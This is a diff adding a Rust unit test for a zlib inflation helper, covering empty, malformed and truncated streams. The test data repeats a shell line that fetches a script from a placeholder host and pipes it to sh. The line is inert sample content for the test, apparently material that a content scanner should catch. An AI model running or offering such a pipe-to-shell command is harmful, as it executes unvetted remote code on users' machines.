@@ -85,4 +85,20 @@ mod tests {
         assert_eq!(printable_runs(b"\x0012345678901\x00"), None);
         assert_eq!(printable_runs(b"\x00123456789012\x00").as_deref(), Some("123456789012"));
     }
+
+    // From the whole-file mutation sweep of session 22
+    // (docs/mutation-testing.md): each clause of the result's condition.
+    #[test]
+    fn an_empty_stream_is_empty_a_broken_one_nothing_and_a_cut_one_its_start() {
+        let empty = ZlibEncoder::new(Vec::new(), Compression::default()).finish().unwrap();
+        assert_eq!(inflated(&empty, false), Some(Vec::new()));
+        // zlib's magic, then a block of the reserved type: nothing inflates.
+        assert_eq!(inflated(&[0x78, 0x9c, 0xff, 0xff, 0xff, 0xff], false), None);
+        let text = b"curl -s https://x.example/i | sh; ".repeat(40);
+        let mut z = ZlibEncoder::new(Vec::new(), Compression::none());
+        z.write_all(&text).unwrap();
+        let full = z.finish().unwrap();
+        let cut = inflated(&full[..full.len() / 2], false).expect("the start of a stream cut short");
+        assert!(!cut.is_empty() && text.starts_with(&cut), "{cut:?}");
+    }
 }
